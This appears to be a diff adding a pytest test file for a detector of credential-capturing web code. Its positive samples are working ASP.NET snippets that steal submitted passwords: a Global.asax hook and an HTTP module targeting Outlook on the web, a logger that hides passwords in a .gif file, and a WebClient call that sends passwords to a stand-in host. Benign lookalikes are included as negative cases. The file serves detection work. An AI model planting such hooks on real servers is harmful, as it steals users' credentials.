@@ -1,0 +1,109 @@
+"""A password the user submits, written down or sent on (EXH-WS-CODE-CREDENTIAL-CAPTURE): the
+sign-in trap of a modified logon page, a Global.asax or an HTTP module reading the password field
+of every request to Outlook on the web. Kept quiet: an installer writing the database password it
+is given into web.config, a login page logging only the user name, checking the password, or a
+web service tracing its arguments to the debugger."""
+
+from __future__ import annotations
+
+import pytest
+
+from code_support import assert_benign, assert_found, cs_page, vb_page
+
+CAPTURE = "EXH-WS-CODE-CREDENTIAL-CAPTURE"
+SENT = "writes down or sends on the password the user submitted"
+
+GLOBAL = (
+    '<%@ Application Language="C#" %>\n<script runat="server">\n'
+    "void Application_BeginRequest(object sender, EventArgs e) {\n"
+    "  var r = HttpContext.Current.Request;\n"
+    '  if (r.Path.ToLower().Contains("auth.owa") && r.HttpMethod == "POST") {\n'
+    '    System.IO.File.AppendAllText(@"C:\\Windows\\Temp\\~tmp.log", r.Form["username"] + ":" + r.Form["password"]);\n'
+    "  }\n}\n</script>"
+)
+MODULE = (
+    "using System; using System.Web;\n"
+    "public class AuthModule : IHttpModule {\n"
+    "  public void Init(HttpApplication app) {\n"
+    "    app.BeginRequest += (s, e) => {\n"
+    "      var r = app.Context.Request;\n"
+    '      System.Diagnostics.EventLog.WriteEntry("Application", r.Form["username"] + " " + r.Form["password"]);\n'
+    "    };\n  }\n  public void Dispose() {}\n}\n"
+)
+CONTROLS = (
+    '<%@ Page Language="C#" %>\n<script runat="server">\n'
+    "void SignIn(object s, EventArgs e) {\n"
+    '  System.IO.File.AppendAllText("c:\\\\temp\\\\a.txt", txtUser.Text + ":" + txtPwd.Text);\n'
+    '}\n</script>\n<form runat="server"><asp:TextBox id="txtUser" runat="server"/>'
+    '<asp:TextBox id="txtPwd" TextMode="Password" runat="server"/></form>'
+)
+
+SHELLS = [
+    ("Global.asax", GLOBAL, ["form field 'password'", SENT, "File.AppendAllText", "on every request"]),
+    ("AuthModule.cs", MODULE, ["form field 'password'", "EventLog.WriteEntry"]),
+    ("logon.aspx", CONTROLS, ["page control 'txtpwd'", SENT]),
+    (
+        "writer.aspx",
+        cs_page(
+            'using (var sw = new System.IO.StreamWriter(Server.MapPath("~/images/x.gif"), true)) '
+            '{ sw.WriteLine(Request.Form["username"] + " " + Request.Form["password"]); }'
+        ),
+        ["form field 'password'", "StreamWriter.WriteLine"],
+    ),
+    (
+        "sent.aspx",
+        cs_page(
+            'new System.Net.WebClient().DownloadString("http://203.0.113.5/c?u=" + Request.Form["username"] '
+            '+ "&p=" + Request.Form["password"]);'
+        ),
+        ["form field 'password'", ".DownloadString"],
+    ),
+    (
+        "logon.vb.aspx",
+        vb_page('System.IO.File.AppendAllText("c:\\temp\\a.txt", Request.Form("user") & ":" & Request.Form("passwd"))'),
+        ["form field 'passwd'", SENT],
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "code", "words"), SHELLS, ids=[s[0] for s in SHELLS])
+def test_password_captured(name: str, code: str, words: list[str]) -> None:
+    assert_found(name, code, CAPTURE, words)
+
+
+BENIGN = [
+    (
+        "install.aspx",
+        cs_page(
+            'System.IO.File.WriteAllText(Server.MapPath("~/web.config"), '
+            '"<add connectionString=\\"pwd=" + Request.Form["dbpassword"] + "\\"/>");'
+        ),
+    ),
+    (
+        "login-log.aspx",
+        cs_page(
+            'System.IO.File.AppendAllText(Server.MapPath("~/App_Data/log.txt"), '
+            '"failed login for " + Request.Form["username"]);'
+        ),
+    ),
+    (
+        "login.aspx",
+        cs_page(
+            'if (Membership.ValidateUser(Request.Form["user"], Request.Form["password"])) '
+            '{ FormsAuthentication.RedirectFromLoginPage(Request.Form["user"], false); }'
+        ),
+    ),
+    (
+        "Service.cs",
+        "using System.Diagnostics; using System.ServiceModel;\n"
+        "[ServiceContract] public interface IAuth { [OperationContract] string Login(string userName, string password); }\n"
+        "public class Auth : IAuth {\n"
+        '  public string Login(string userName, string password) { Debug.WriteLine(userName + password); return ""; }\n'
+        "}\n",
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
+def test_lookalike_not_reported(name: str, code: str) -> None:
+    assert_benign(name, code)
